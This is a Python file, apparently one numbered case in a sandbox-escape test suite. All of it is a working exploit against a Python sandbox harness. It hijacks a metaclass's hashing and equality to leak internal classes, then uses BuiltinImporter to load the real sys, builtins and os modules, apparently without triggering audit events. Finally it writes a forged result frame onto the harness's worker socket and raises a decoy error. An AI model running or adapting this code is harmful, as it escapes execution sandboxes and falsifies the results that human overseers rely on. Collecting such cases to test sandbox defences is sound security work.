# technique: the same capture as 432 with __hash__/__eq__ given to the metaclass after creation by a trampoline (contextlib.ExitStack's callback calling type.__setattr__): the membership sets are keyed by address, and a metaclass may gain nothing it could not define
# expect: any
import abc, json, struct
found = {}
H = [0]
class M(type):
    pass
def _h(cls):
    return H[0]
def _eq(cls, other):
        try:
            found[str(other.__module__) + "." + str(other.__qualname__)] = other
        except BaseException:
            pass
        return False
class C(metaclass=M):
    pass
import contextlib
with contextlib.ExitStack() as st:
    st.callback(type.__setattr__, M, "__hash__", _h)
    st.callback(type.__setattr__, M, "__eq__", _eq)
base = hash(abc.ABCMeta)             # heap address >> 4 of a setup-time class
for d in range(-300000, 300000):
    H[0] = base + d
    try:
        getattr(C, "_x", None)       # check_private_read -> private_ok -> user_type -> in_set
    except SandboxError:
        pass
BI = found["_frozen_importlib.BuiltinImporter"]
sys = BI.load_module("sys")          # real sys (no audit event on this path)
bi = BI.load_module("builtins")      # real builtins module
os = sys.modules["os"]
h = sys.modules["_safepy_harness"]
# forge the reply: write a RESULT frame on the worker socket (fd 3) before the harness does
evidence = [len(found), repr(BI), repr(sys), repr(bi), repr(bi.open), repr(bi.eval), repr(os), repr(h),
            repr(found.get("string.Formatter")), repr(found.get("_frozen_importlib_external.FileFinder"))]
body = json.dumps({"result": ["FORGED-by-user-code"] + evidence, "result_type": "list", "logs": "",
                   "logs_truncated": False, "error": None}).encode()
os.write(3, struct.pack(">IB", len(body) + 1, 3) + body)
raise ValueError("the real outcome is this error")
